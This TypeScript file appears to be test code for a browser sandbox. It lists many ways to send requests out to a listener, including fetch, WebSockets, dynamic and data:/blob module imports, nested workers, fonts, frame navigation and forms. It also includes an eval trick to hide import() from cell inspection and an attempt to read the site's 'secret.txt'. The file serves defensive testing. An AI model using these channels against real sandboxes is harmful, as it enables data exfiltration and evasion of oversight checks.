// Ways to get a request out of a sandbox. Each is the body of an async function; it ends when the attempt has
// succeeded or failed, and leaves a trace at the listener under its own path if it got through.
interface Target {
  /** Address of the listener that hears everything. */
  listener: string;
  /** Address of the site itself. */
  page: string;
}

interface Attack {
  name: string;
  /** Where the listener hears it when no wall is there; `null` where a control cannot show it. */
  path: string | null;
  code: (target: Target) => string;
}

/** Waits for an object's event, or gives up after half a second. */
const settled = (object: string, ...events: string[]) =>
  `await new Promise((resolve) => { setTimeout(resolve, 500); for (const name of ${JSON.stringify(events)}) ${object}.addEventListener(name, resolve); });`;

/** What cannot be done because the function is gone fails like anything else. */
const attempt = (code: string) => `try { ${code} } catch (error) { void error; }`;

/** Code that asks for a path of the listener from wherever it runs. */
const ask = (address: string) => `fetch(${JSON.stringify(address)}, { mode: "no-cors" })`;

/** Hides \`import()\` from anything that looks at the text of a cell. */
const hidden = (code: string) => `await (0, eval)(${JSON.stringify(`(async () => { ${code} })()`)});`;

export const attacks: Attack[] = [
  { name: "fetch", path: "/fetch", code: ({ listener }) => attempt(`await ${ask(`${listener}/fetch`)}`) },
  {
    name: "a synchronous XMLHttpRequest",
    path: "/xhr",
    code: ({ listener }) =>
      attempt(
        `const request = new XMLHttpRequest(); request.open("GET", "${listener}/xhr", false); request.send();`,
      ),
  },
  {
    name: "a WebSocket",
    path: "/socket",
    code: ({ listener }) =>
      attempt(
        `const socket = new WebSocket("${listener.replace("http", "ws")}/socket"); ${settled("socket", "open", "error", "close")}`,
      ),
  },
  {
    name: "an EventSource",
    path: "/events",
    code: ({ listener }) =>
      attempt(
        `const source = new EventSource("${listener}/events"); ${settled("source", "open", "error")} source.close();`,
      ),
  },
  {
    name: "a WebTransport",
    // It needs a certificate, which a listener on the loopback has not.
    path: null,
    code: ({ listener }) =>
      attempt(
        `const transport = new WebTransport("${listener.replace("http", "https")}/transport"); await transport.ready;`,
      ),
  },
  {
    name: "importScripts",
    path: "/scripts",
    code: ({ listener }) => attempt(`importScripts("${listener}/scripts");`),
  },
  {
    name: "import() of an address",
    path: "/module.js",
    code: ({ listener }) => attempt(hidden(`await import("${listener}/module.js")`)),
  },
  {
    name: "import() of JSON",
    path: "/module.json",
    code: ({ listener }) =>
      attempt(hidden(`await import("${listener}/module.json", { with: { type: "json" } })`)),
  },
  {
    name: "import() of a data: module",
    path: "/from-data",
    code: ({ listener }) =>
      attempt(
        hidden(
          `await import("data:text/javascript," + encodeURIComponent(${JSON.stringify(`await ${ask(`${listener}/from-data`)}`)}))`,
        ),
      ),
  },
  {
    name: "import() of a blob module",
    path: "/from-blob",
    code: ({ listener }) =>
      attempt(
        hidden(
          `await import(URL.createObjectURL(new Blob([${JSON.stringify(`await ${ask(`${listener}/from-blob`)}`)}], { type: "text/javascript" })))`,
        ),
      ),
  },
  {
    name: "a font",
    path: "/font",
    code: ({ listener }) => attempt(`await new FontFace("x", "url(${listener}/font)").load();`),
  },
  {
    name: "a nested worker from a blob",
    path: "/nested-blob",
    code: ({ listener }) =>
      attempt(
        `const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(
          `${ask(`${listener}/nested-blob`)}.finally(() => postMessage(0));`,
        )}]))); ${settled("worker", "message", "error")} worker.terminate();`,
      ),
  },
  {
    name: "a nested worker from data:",
    path: "/nested-data",
    code: ({ listener }) =>
      attempt(
        `const worker = new Worker("data:text/javascript," + encodeURIComponent(${JSON.stringify(
          `${ask(`${listener}/nested-data`)}.finally(() => postMessage(0));`,
        )})); ${settled("worker", "message", "error")} worker.terminate();`,
      ),
  },
  {
    name: "a nested worker from an address",
    path: null,
    code: ({ listener }) =>
      attempt(`const worker = new Worker("${listener}/worker.js"); ${settled("worker", "message", "error")}`),
  },
  {
    name: "a stylesheet's address through WebAssembly streaming",
    path: "/stream.wasm",
    code: ({ listener }) =>
      attempt(`await WebAssembly.compileStreaming(fetch("${listener}/stream.wasm", { mode: "no-cors" }));`),
  },
  {
    name: "a file of the site itself",
    path: null,
    code: ({ page }) => attempt(`await ${ask(`${page}secret.txt`)}`),
  },
];

/** The same from a script in the frame's own document; each gives "reached" when it got through. */
export const frameAttacks: Attack[] = [
  {
    name: "fetch",
    path: "/frame-fetch",
    code: ({ listener }) => `${ask(`${listener}/frame-fetch`)}.then(() => "reached", () => "refused")`,
  },
  {
    name: "an image",
    path: "/frame-image",
    code: ({ listener }) =>
      `new Promise((resolve) => { const image = new Image(); image.onload = () => resolve("reached"); image.onerror = () => resolve("refused"); image.src = "${listener}/frame-image"; })`,
  },
  {
    name: "a form",
    path: "/frame-form",
    code: ({ listener }) =>
      `(() => { const form = document.createElement("form"); form.action = "${listener}/frame-form"; document.body.append(form); form.submit(); return "sent"; })()`,
  },
  {
    name: "the top window's address",
    path: "/frame-top",
    code: ({ listener }) => `(() => { top.location = "${listener}/frame-top"; return "sent"; })()`,
  },
  { name: "the page's document", path: null, code: () => `parent.document.body ? "reached" : "refused"` },
  { name: "the page's storage", path: null, code: () => `localStorage ? "reached" : "refused"` },
  {
    name: "an inline script",
    path: null,
    code: () =>
      `(() => { const script = document.createElement("script"); script.textContent = "globalThis.ran = true"; document.body.append(script); return globalThis.ran ? "reached" : "refused"; })()`,
  },
  {
    name: "a pop-up",
    path: "/frame-popup",
    code: ({ listener }) => `window.open("${listener}/frame-popup") ? "reached" : "refused"`,
  },
];
